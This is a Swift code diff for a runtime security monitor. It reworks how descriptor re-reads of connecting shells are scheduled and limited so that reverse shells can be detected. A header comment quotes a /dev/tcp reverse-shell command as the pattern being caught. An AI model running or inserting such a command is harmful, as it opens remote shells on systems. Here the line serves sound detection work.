@@ -4,6 +4,10 @@
 // shells in the connector's pipeline (its process group). A shell that redirects its own stdio to a
 // socket it opened (`exec 3<>/dev/tcp/h/p; exec 0<&3 1>&3 2>&3`) execs nothing afterwards, so only a
 // second look at its fds 0-2, a moment after the connect, shows the reverse shell.
+//
+// Under a connect storm the same few processes connect again and again: their /proc directories
+// stay open in `directories`, and the re-reads are joined per process (ConnectRereads), so one look
+// serves every connect of that process pending in its window.
 
 import Foundation
 import RuntimeWatchCore
@@ -11,11 +15,15 @@ import RuntimeWatchCore
 public struct ConnectEnrichment: Sendable {
     /// When to look again at a connecting shell's (and its pipeline's shells') descriptors.
     public var rereadDelays: [Duration] = [.milliseconds(50), .milliseconds(500)]
-    /// Most re-reads waiting at once; beyond it new ones are skipped and counted as a loss
-    /// (source `connect`, cause `reread_limit`): bounded work under a connect storm.
+    /// Most processes with re-reads waiting at once; beyond it a new process's re-reads are skipped
+    /// and counted as a loss (source `connect`, cause `reread_limit`): bounded work under a connect
+    /// storm. Connects of a process already waiting join its re-reads and are never skipped.
     public var maxPendingRereads = 64
     public var reader = ProcReader()
-    private let pending = PendingCounter()
+    /// Open /proc/<pid> directories of connecting processes (shared with the other capture sources
+    /// in `runtime-watch run`, which forget a pid when it exits).
+    public var directories = ProcDirectoryCache()
+    private let rereads = ConnectRereads()
 
     public init() {}
 
@@ -26,7 +34,7 @@ public struct ConnectEnrichment: Sendable {
     public func deliver(_ record: EventRecord, to outlet: CaptureOutlet) -> Bool {
         guard case .connect(var connect) = record.event else { return outlet.emit(record) }
         var record = record
-        let read = reader.read(pid: connect.pid.rawValue)
+        let read = reader.read(pid: connect.pid.rawValue, directories: directories)
         if connect.process == nil, let info = read.info {
             connect.process = info
             record.event = .connect(connect)
@@ -34,11 +42,6 @@ public struct ConnectEnrichment: Sendable {
         let queued = outlet.emit(record)
         // Services (kind .other) connect all the time and are never a reverse shell's relay.
         guard let info = read.info, ProgramClassifier.kind(of: info) != .other else { return queued }
-        guard pending.acquire(limit: maxPendingRereads) else {
-            outlet.lose(1, cause: "reread_limit", reason: "descriptor re-read of a connecting shell skipped: \(maxPendingRereads) already pending",
-                        time: record.timestamp)
-            return queued
-        }
         let pid = connect.pid
         let connectorIsShell = ProgramClassifier.isShellOrInterpreter(info)
         // Audit delivers the connect late: by now the connector may already have moved the socket
@@ -47,37 +50,39 @@ public struct ConnectEnrichment: Sendable {
         if connectorIsShell, let fds = info.fds {
             outlet.emit(EventRecord(timestamp: WallClock.nowNanoseconds(), event: .descriptors(DescriptorsEvent(pid: pid, fds: fds))))
         }
-        let (delays, reader, pending) = (rereadDelays, reader, pending)
-        Task.detached {
-            defer { pending.release() }
-            var last: [ProcessID: [DescriptorInfo]] = connectorIsShell ? [pid: info.fds ?? []] : [:]
-            for delay in delays {
-                try? await Task.sleep(for: delay)
-                // The connector itself when it is a shell, and the shells of its pipeline (children
-                // and siblings in its process group): one of them may be the shell this connection
-                // now serves.
-                var targets = ProcessGroupMembers.of(pid.rawValue).map { ProcessID($0) }
-                if connectorIsShell { targets.insert(pid, at: 0) }
-                for target in targets {
-                    guard let now = reader.read(pid: target.rawValue).info, let fds = now.fds,
-                          target == pid || ProgramClassifier.isShellOrInterpreter(now) else { continue }
-                    if fds != last[target] {
-                        outlet.emit(EventRecord(timestamp: WallClock.nowNanoseconds(),
-                                                event: .descriptors(DescriptorsEvent(pid: target, fds: fds))))
-                        last[target] = fds
-                    }
-                }
-            }
+        let (reader, directories) = (reader, directories)
+        let scheduled = rereads.schedule(pid: pid, startTicks: info.startTicks, connectorIsShell: connectorIsShell,
+                                         seen: connectorIsShell ? info.fds ?? [] : nil,
+                                         delays: rereadDelays, limit: maxPendingRereads) { pid, series in
+            Self.look(at: pid, series: series, reader: reader, directories: directories, outlet: outlet)
+        }
+        if !scheduled {
+            outlet.lose(1, cause: "reread_limit", reason: "descriptor re-read of a connecting shell skipped: \(maxPendingRereads) processes already pending",
+                        time: record.timestamp)
         }
         return queued
     }
-}
 
-/// A counter with a ceiling, shared by the re-read tasks.
-private final class PendingCounter: @unchecked Sendable {
-    // @unchecked: `value` is only touched under `lock`.
-    private let lock = NSLock()
-    private var value = 0
-    func acquire(limit: Int) -> Bool { lock.withLock { if value >= limit { return false }; value += 1; return true } }
-    func release() { lock.withLock { value -= 1 } }
+    /// One look: the connector itself when it is a shell, and the shells of its pipeline (children
+    /// and siblings in its process group): one of them may be the shell this connection now serves.
+    /// Reports each one's fds when they changed since the last report.
+    /// - Returns: the fds reported, per process.
+    private static func look(at pid: ProcessID, series: ConnectRereads.Series, reader: ProcReader,
+                             directories: ProcDirectoryCache, outlet: CaptureOutlet) -> [ProcessID: [DescriptorInfo]] {
+        var targets = ProcessGroupMembers.of(pid.rawValue).map { ProcessID($0) }
+        if series.connectorIsShell { targets.insert(pid, at: 0) }
+        var reported: [ProcessID: [DescriptorInfo]] = [:]
+        for target in targets {
+            // The connector is read only as the process that connected, never one that took its pid since.
+            let read = reader.read(pid: target.rawValue, startTicks: target == pid ? series.startTicks : nil, directories: directories)
+            guard let now = read.info, let fds = now.fds,
+                  target == pid || ProgramClassifier.isShellOrInterpreter(now) else { continue }
+            if fds != series.last[target] {
+                outlet.emit(EventRecord(timestamp: WallClock.nowNanoseconds(),
+                                        event: .descriptors(DescriptorsEvent(pid: target, fds: fds))))
+                reported[target] = fds
+            }
+        }
+        return reported
+    }
 }
